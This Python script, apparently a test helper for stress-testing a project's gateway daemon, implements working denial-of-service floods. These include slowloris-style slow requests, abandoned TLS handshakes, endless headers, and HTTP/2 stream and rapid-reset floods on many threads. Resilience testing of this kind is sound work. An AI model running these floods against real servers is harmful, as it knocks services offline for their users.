# SPDX-License-Identifier: Apache-2.0
"""Holds many TCP connections to a daemon until it is killed: connections.py KIND ADDRESS PORT [CERTIFICATE KEY]. Prints
"attacking" after a second.

  silent   connections that send nothing
  slow     requests of /metrics that arrive byte by byte, and whose answers are not read
  hellos   the beginning of a TLS handshake, which is then left alone
  endless  requests of /metrics whose header does not end
  streams  HTTP/2 over TLS without a certificate, each with as many streams as are let in, none of which ends, on 64 threads
  resets   the same, but each stream is reset at once
  member_streams, member_resets  the same with a certificate, on connections that count as a member's"""

import resource
import socket
import ssl
import struct
import sys
import threading
import time

_MOST = 900
_PAGE = b"GET /metrics HTTP/1.1\r\nHost: localhost\r\nX: " + b"y" * 4096
# Record header of a ClientHello of 512 bytes, of which the first byte follows.
_TLS = b"\x16\x03\x01\x02\x00\x01"


def hold(kind, address, port):
    held = []
    sent = {}
    told = False
    began = due = time.monotonic()
    while True:
        try:
            if len(held) < _MOST:
                connection = socket.create_connection((address, port), 1)
                connection.setblocking(False)
                held.append(connection)
                if kind == "hellos":
                    connection.send(_TLS)
        except OSError:
            time.sleep(0.01)
        if len(held) < _MOST and time.monotonic() < due:
            continue
        due = time.monotonic() + 0.1
        if due > began + 1 and not told:
            told = True
            print("attacking", flush=True)
        for connection in list(held):
            try:
                if kind == "slow":
                    at = sent.get(connection, 0)
                    connection.send(_PAGE[at:at + 1])
                    sent[connection] = at + 1
                elif connection.recv(1) == b"":
                    raise OSError("closed")
            except BlockingIOError:
                pass
            except OSError:
                connection.close()
                held.remove(connection)
                sent.pop(connection, None)
        if len(held) >= _MOST:
            time.sleep(0.05)


# HTTP/2: HEADERS of POST https://x/grpc.health.v1.Health/Watch, by HPACK's static table and by literals that enter the dynamic
# table. The second and later streams of a connection cost 15 bytes each.
_FIRST_HPACK = b"\x83\x87\x44\x1c/grpc.health.v1.Health/Watch\x41\x01x\x5f\x10application/grpc\x40\x02te\x08trailers"
_NEXT_HPACK = b"\x83\x87\xc1\xc0\xbf\xbe"
# A call that needs a certificate, and by which the connection becomes a member's.
_MEMBER_HPACK = (b"\x83\x87\x44\x26/rocegw.admin.v1.Gateways/ListGateways\x41\x01x\x5f\x10application/grpc"
                 b"\x40\x02te\x08trailers")
_DATA, _HEADERS, _RST_STREAM, _SETTINGS, _END_STREAM, _END_HEADERS, _CANCEL = 0, 1, 3, 4, 1, 4, 8
_HTTP2_AT_ONCE = 64


def _frame(kind, flags, stream, payload):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def _http2(address, port, certificate):
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    if certificate:
        context.load_cert_chain(*certificate)
    connection = context.wrap_socket(socket.create_connection((address, port), 1))
    connection.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(_SETTINGS, 0, 0, b""))
    connection.settimeout(0.05)
    return connection


def _flood_one(kind, address, port, certificate):
    """Opens streams on one connection until the daemon closes it."""
    first_hpack = _MEMBER_HPACK if certificate else _FIRST_HPACK
    with _http2(address, port, certificate) as connection:
        if certificate:
            connection.sendall(_frame(_HEADERS, _END_HEADERS, 1, first_hpack) + _frame(_DATA, _END_STREAM, 1, bytes(5)))
            time.sleep(0.2)
        for first in range(3 if certificate else 1, 1 << 30, 128):
            frames = b""
            for stream in range(first, first + 128, 2):
                frames += _frame(_HEADERS, _END_HEADERS, stream, first_hpack if stream == 1 else _NEXT_HPACK)
                if kind.endswith("resets"):
                    frames += _frame(_RST_STREAM, 0, stream, struct.pack(">I", _CANCEL))
            try:
                connection.sendall(frames)
            except TimeoutError:
                time.sleep(0.01)


def _flood(*words):
    while True:
        try:
            _flood_one(*words)
        except OSError:
            time.sleep(0.01)


def flood_streams(*words):
    """Opens streams on many connections; a connection that the daemon closes is followed by a new one."""
    for _ in range(_HTTP2_AT_ONCE):
        threading.Thread(target=_flood, args=words, daemon=True).start()
    time.sleep(1)
    print("attacking", flush=True)
    while True:
        time.sleep(60)


def flood_headers(address, port):
    print("attacking", flush=True)
    while True:
        try:
            with socket.create_connection((address, port), 1) as connection:
                connection.sendall(_PAGE)
                while True:
                    connection.sendall(b"y" * 65536)
        except OSError:
            pass


def main():
    resource.setrlimit(resource.RLIMIT_NOFILE, (1024, resource.getrlimit(resource.RLIMIT_NOFILE)[1]))
    kind, address, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
    if kind.endswith(("streams", "resets")):
        flood_streams(kind, address, port, sys.argv[4:])
    elif kind == "endless":
        flood_headers(address, port)
    else:
        hold(kind, address, port)


if __name__ == "__main__":
    main()
